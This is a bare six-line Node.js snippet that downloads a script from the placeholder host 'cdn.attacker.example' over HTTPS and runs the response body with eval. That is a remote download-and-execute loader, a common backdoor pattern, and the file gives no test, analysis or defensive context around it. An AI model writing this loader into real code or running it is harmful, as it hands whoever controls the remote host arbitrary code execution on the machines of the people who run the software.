const https = require('https');
https.get('https://cdn.attacker.example/s.js', (r) => {
  let b = '';
  r.on('data', (c) => (b += c));
  r.on('end', () => eval(b));
});
